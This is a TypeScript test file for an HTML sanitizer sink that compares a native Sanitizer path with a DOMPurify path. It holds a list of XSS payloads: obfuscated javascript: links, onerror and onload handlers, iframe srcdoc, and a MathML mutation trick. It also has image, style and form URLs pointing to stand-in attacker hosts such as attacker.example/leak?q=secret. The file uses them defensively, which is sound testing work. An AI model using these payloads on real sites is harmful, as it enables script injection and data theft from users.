import { expect } from 'chai';
import { createHtmlSink, detectSinkMode, type SinkMode } from '../../components/html-sink.js';
import { MATHML_NAMESPACE, MATH_ELEMENTS } from '../../src/markdown/math-contract.js';
import { contentOf, createElement, mockUrl } from './helpers.js';

const options = { linkSchemes: ['http', 'https', 'mailto'], imageOrigins: [], allowDataImages: false, rawHtml: false, linkTarget: null };

// The DOMPurify fallback loads on first use (a lazy chunk): let it load once, so that `render` below
// is synchronous on both paths, as it is for every stream after the page's first.
before(async () => {
  await createHtmlSink({ ...options, mode: 'dompurify' }).ready;
});

function render(mode: SinkMode, html: string, extra: Partial<typeof options> = {}): HTMLElement {
  const sink = createHtmlSink({ ...options, ...extra, mode });
  expect(sink.ready, `${mode} sink is ready`).to.equal(null);
  const div = document.createElement('div');
  div.append(sink.fragment(html));
  return div;
}

const ATTACKS = [
  '<a href="javascript:alert(1)">js link</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab link</a>',
  '<a href=" JaVaScRiPt:alert(1)">case link</a>',
  '<img src="x" onerror="alert(1)">',
  '<svg onload="alert(1)"><circle r="1"></circle></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<p style="background:url(https://evil.example/x)">styled</p>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
];

describe('html sink', () => {
  afterEach(() => document.body.replaceChildren());

  it('DOMPurify returning null (a raw <frameset> block) renders that block as text; the sink never throws', () => {
    const div = render('dompurify', '<frameset><frame src="https://evil.example/"></frameset><p>after</p>', { rawHtml: true });
    expect(div.querySelector('frameset, frame')).to.equal(null);
    expect(div.textContent).to.include('after');
  });

  for (const mode of ['sanitizer', 'dompurify'] as const) {
    it(`${mode}: a script scheme behind characters the URL parser keeps is not a link`, () => {
      const div = render(mode, '<p><a href="&#xa0;javascript:alert(1)">a</a> <a href="&#x1;java&#x3;script:alert(1)">b</a> <a href="https://example.com/">ok</a></p>', { rawHtml: true });
      const hrefs = Array.from(div.querySelectorAll('a[href]')).map((a) => a.getAttribute('href'));
      expect(hrefs).to.deep.equal(['https://example.com/']);
    });
  }

  it('this Chromium offers setHTML with a Sanitizer (the default path)', () => {
    expect(detectSinkMode()).to.equal('sanitizer');
  });

  for (const mode of ['sanitizer', 'dompurify'] as const) {
    it(`${mode}: keeps what the renderer emits, with class and part`, () => {
      const html = '<h2 part="h2">T</h2>\n<pre part="pre"><code class="language-ts" part="code">let a = 1;\n</code></pre>\n<ul part="ul">\n<li part="li"><input checked="" disabled="" type="checkbox"> done</li>\n</ul>\n';
      const div = render(mode, html);
      expect(div.querySelector('code')?.className).to.equal('language-ts');
      expect(div.querySelector('pre')?.getAttribute('part')).to.equal('pre');
      expect(div.querySelector('input')?.hasAttribute('disabled')).to.equal(true);
    });

    it(`${mode}: leaves no script-capable URL, handler or forbidden element from the attack list`, () => {
      for (const attack of ATTACKS) {
        const div = render(mode, attack);
        for (const element of Array.from(div.querySelectorAll('*'))) {
          for (const attribute of Array.from(element.attributes)) {
            expect(attribute.name, attack).to.not.match(/^on/i);
            expect(attribute.value.replace(/[\s\u0000-\u001f]/g, ''), attack).to.not.match(/^(javascript|vbscript|data:text)/i);
            expect(attribute.name, attack).to.not.equal('style');
          }
          expect(['SCRIPT', 'IFRAME', 'SVG', 'FORM', 'STYLE', 'OBJECT', 'EMBED'], attack).to.not.include(element.tagName.toUpperCase());
          // MathML only as the math renderer emits it (src/markdown/math-contract.ts).
          if (element.namespaceURI === MATHML_NAMESPACE) expect(MATH_ELEMENTS, attack).to.include(element.localName);
        }
      }
    });

    it(`${mode}: a blocked image becomes a link and no <img> reaches the page`, () => {
      const div = render(mode, '<p><img src="https://attacker.example/leak?q=secret" alt="chart"></p>');
      expect(div.querySelector('img')).to.equal(null);
      expect(div.querySelector('a')?.getAttribute('href')).to.equal('https://attacker.example/leak?q=secret');
      expect(div.textContent).to.equal('chart');
    });
  }

  it('a blocked image inside a raw HTML link becomes its alt text in that link, on both paths', () => {
    for (const mode of ['sanitizer', 'dompurify'] as const) {
      const div = render(mode, '<p><a href="https://example.com/"><img src="https://img.example/x.png" alt="pic"></a></p>', { rawHtml: true });
      expect(div.querySelectorAll('a').length, mode).to.equal(1);
      expect(div.querySelector('a')!.textContent, mode).to.equal('pic');
      expect(div.querySelector('img'), mode).to.equal(null);
    }
  });

  it('both paths render the same safe HTML for the same input', () => {
    const html = '<p part="p">a <strong>b</strong> <a href="https://example.com/x" part="a">c</a> <a href="javascript:alert(1)">d</a></p>\n<table part="table"><thead><tr><th align="left">h</th></tr></thead><tbody><tr><td align="left">v</td></tr></tbody></table>\n';
    expect(render('sanitizer', html).innerHTML).to.equal(render('dompurify', html).innerHTML);
  });

  for (const mode of ['sanitizer', 'dompurify'] as const) {
    it(`${mode}: an entity-obfuscated javascript: link streamed through the element is inert`, async () => {
      const element = createElement({ manual: '', sanitizer: mode });
      const text = 'Click [here](jav&#x09;ascript:alert(1)) or [there](javascript:alert(2)) or <javascript:alert(3)>.';
      await element.start({ url: mockUrl({ tps: 'max', text }) });
      expect(element.sinkMode).to.equal(mode);
      const content = contentOf(element);
      expect(content.textContent).to.include('here');
      for (const link of Array.from(content.querySelectorAll('a'))) {
        expect((link.getAttribute('href') ?? '').replace(/[\s\u0000-\u001f]/g, '')).to.not.match(/^javascript/i);
      }
    });
  }
});
